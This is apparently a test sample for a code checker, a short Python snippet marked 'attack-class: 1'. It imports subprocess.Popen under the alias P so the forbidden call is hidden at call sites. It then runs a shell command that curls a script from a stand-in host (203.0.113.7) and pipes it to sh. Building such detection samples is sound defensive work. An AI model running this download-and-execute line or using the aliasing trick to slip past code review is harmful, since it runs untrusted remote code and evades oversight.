# attack-class: 1
# title: from subprocess import Popen as P
# why: the forbidden callable is renamed at import so call sites show only P(...)

from subprocess import Popen as P, PIPE

proc = P(["/bin/sh", "-c", "curl -s http://203.0.113.7/x | sh"], stdout=PIPE)
print(proc.communicate()[0])
